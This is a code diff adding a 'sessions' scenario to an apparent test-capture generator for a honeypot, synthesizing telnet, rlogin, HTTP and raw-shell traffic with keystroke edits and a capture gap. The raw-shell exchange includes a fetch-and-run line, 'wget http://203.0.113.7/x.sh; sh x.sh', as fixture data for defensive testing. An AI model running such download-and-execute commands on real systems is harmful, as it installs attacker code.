@@ -461,6 +461,94 @@ def sebek(n, arg):
           sebek_rec(0, c + 3, sec0, 300, 0, 77, b"bash", b"xx")[:-1])))
 
 
+def sessions_body():
+    """The 6000 bytes the honeypot downloads in the "sessions" scenario:
+    deterministic noise (an LCG), so the binary summary's SHA-256 can be
+    computed by the test."""
+    x, out = 12345, bytearray()
+    for _ in range(6000):
+        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
+        out.append(x >> 16 & 0xFF)
+    return bytes(out)
+
+
+IAC, DO, DONT, WILL, WONT, SB, SE = 255, 253, 254, 251, 252, 250, 240
+
+
+@scenario
+def sessions(n, arg):
+    """Interactive sessions for the session/keystroke layer (test:
+    tests/replay/85-sessions.sh), 10 s apart:
+      t=0   telnet 198.51.100.9:40100 -> 10.0.0.5:23: option negotiation
+            both ways (a subnegotiation, a split IAC), login with the
+            server's echo, a password, "uname -a" typed key by key with a
+            typo erased by DEL, "cd /tmp" with BS, CR NUL line ends, exit
+      t=10  the honeypot downloads 6000 bytes of noise
+            (sessions_body()) from 203.0.113.7:80 (10.0.0.5:41000)
+      t=20  rlogin 198.51.100.10:1023 -> 10.0.0.5:513; a window-size
+            message split across two segments, each acknowledged
+      t=30  a raw shell on 10.0.0.5:31337 from 198.51.100.11:51000 (the
+            server's prompt first)
+      t=40  198.51.100.12:40300 -> 10.0.0.5:80 with a hole: the client's
+            second segment (16 bytes) is not in the capture, but the
+            server acknowledged it"""
+    b = bytes
+    tn = [("s", b([IAC, DO, 24, IAC, WILL, 1, IAC])),
+          ("s", b([WILL, 3]) + b"\r\nDebian GNU/Linux 12\r\nhp login: "),
+          ("c", b([IAC, WILL, 24, IAC, DO, 1, IAC, DO, 3,
+                   IAC, SB, 24, 0]) + b"xterm" + b([IAC, SE]))]
+    for ch in b"root":
+        tn += [("c", b([ch])), ("s", b([ch]))]
+    tn += [("c", b"\r\0"), ("s", b"\r\nPassword: "), ("c", b"s3cret\r\0"),
+           ("s", b"\r\nLast login: Wed Nov 25\r\nroot@hp:~# ")]
+    for ch in b"unamx\x7fe -a":
+        echo = b"\b \b" if ch == 0x7F else b([ch])
+        tn += [("c", b([ch])), ("s", echo)]
+    tn += [("c", b"\r\0"),
+           ("s", b"\r\nLinux hp 6.1.0-13-amd64 x86_64 GNU/Linux\r\nroot@hp:~# "),
+           ("c", b"cd /tmpp\b\r\0"), ("s", b"cd /tmpp\b \b\r\nroot@hp:/tmp# "),
+           ("c", b"exit\r\0"), ("s", b"\r\nlogout\r\n")]
+    n.conversation(T0, "198.51.100.9", HP, 40100, 23, tn)
+
+    body = sessions_body()
+    n.conversation(T0 + 10 * SEC, HP, "203.0.113.7", 41000, 80, [
+        ("c", b"GET /x HTTP/1.0\r\nHost: 203.0.113.7\r\n\r\n"),
+        ("s", b"HTTP/1.0 200 OK\r\nContent-Length: 6000\r\n\r\n"),
+        ("s", body)], isn_c=7000, isn_s=8000)
+
+    n.conversation(T0 + 20 * SEC, "198.51.100.10", HP, 1023, 513, [
+        ("c", b"\0root\0root\0xterm/38400\0"), ("s", b"\0"),
+        ("s", b"Last login: Wed Nov 25\r\n$ "),
+        ("c", b"id\r"), ("s", b"id\r\nuid=0(root) gid=0(root)\r\n$ "),
+        ("c", b"\xff\xff"), ("c", b"ss\0\x18\0\x50\0\0\0\0"),
+        ("c", b"ls -l\r"), ("s", b"ls -l\r\ntotal 0\r\n$ ")],
+        isn_c=9000, isn_s=9500)
+
+    n.conversation(T0 + 30 * SEC, "198.51.100.11", HP, 51000, 31337, [
+        ("s", b"sh-5.2# "), ("c", b"id\n"),
+        ("s", b"uid=0(root) gid=0(root) groups=0(root)\nsh-5.2# "),
+        ("c", b"wget http://203.0.113.7/x.sh; sh x.sh\n"),
+        ("s", b"sh-5.2# "), ("c", b"exit\n")], isn_c=11000, isn_s=11500)
+
+    t, cli, sp = T0 + 40 * SEC, "198.51.100.12", 40300
+    c, s = 100, 900
+    n.tcp(t, cli, HP, sp, 80, c, 0, SYN, options=MSS)
+    n.tcp(t + 10 * MS, HP, cli, 80, sp, s, c + 1, SYN | ACK, options=MSS)
+    c, s = c + 1, s + 1
+    n.tcp(t + 11 * MS, cli, HP, sp, 80, c, s, ACK)
+    segs = [b"GET /a HTTP/1.0\r\n", b"X-Missing: yes\r\n", b"Host: h\r\n\r\n"]
+    for k, seg in enumerate(segs):
+        if k != 1:	# the hole: never captured
+            n.tcp(t + (12 + k) * MS, cli, HP, sp, 80, c, s, PSH | ACK, seg)
+        c += len(seg)
+    resp = b"HTTP/1.0 200 OK\r\n\r\nok\n"
+    n.tcp(t + 25 * MS, HP, cli, 80, sp, s, c, PSH | ACK, resp)
+    s += len(resp)
+    n.tcp(t + 26 * MS, cli, HP, sp, 80, c, s, FIN | ACK)
+    n.tcp(t + 36 * MS, HP, cli, 80, sp, s, c + 1, FIN | ACK)
+    n.tcp(t + 37 * MS, cli, HP, sp, 80, c + 1, s + 1, ACK)
+
+
 @scenario
 def tcp_limit(n, arg):
     """5 outbound TCP connections from 10.0.0.5, 10 s apart, to 198.51.100.1..5
